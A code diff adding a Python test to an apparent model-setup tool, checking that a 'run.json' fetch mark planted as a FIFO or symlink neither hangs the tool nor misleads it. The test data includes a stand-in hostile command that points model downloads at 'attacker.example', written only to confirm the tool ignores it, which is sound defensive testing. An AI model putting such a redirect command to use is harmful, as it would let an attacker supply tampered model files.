@@ -77,3 +77,27 @@ def test_bookkeeping_folders_are_not_model_files(tmp_path):
     report = modelfiles.inspect_model_dir(folder)
     assert report.ok, report.issues
     assert not any(f.startswith((".glmsetup", ".git")) for f in report.files)
+
+
+def test_a_fifo_or_link_as_the_fetch_mark_does_not_hang_or_mislead(tmp_path):
+    """`.glmsetup/partial/run.json` is read from a folder anyone may have written: a FIFO there must not
+    block `verify`, `run` or `doctor` (a plain open waits for a writer forever), and a link is not followed."""
+    import os
+    import subprocess
+    import sys
+
+    from glmsetup.modelfiles import RUN_MARK
+
+    folder = tmp_path / "m"
+    (folder / RUN_MARK.parent).mkdir(parents=True)
+    os.mkfifo(folder / RUN_MARK)
+    code = f"from glmsetup.modelfiles import unfinished_fetch; print(unfinished_fetch({str(folder)!r}))"
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
+    assert done.stdout.strip() == f"glmsetup fetch --model-dir {folder}", done.stderr
+    os.unlink(folder / RUN_MARK)
+    elsewhere = tmp_path / "elsewhere.json"
+    elsewhere.write_text('{"command": "glmsetup fetch --endpoint http://attacker.example"}')
+    os.symlink(elsewhere, folder / RUN_MARK)
+    from glmsetup.modelfiles import unfinished_fetch
+
+    assert unfinished_fetch(folder) == f"glmsetup fetch --model-dir {folder}"
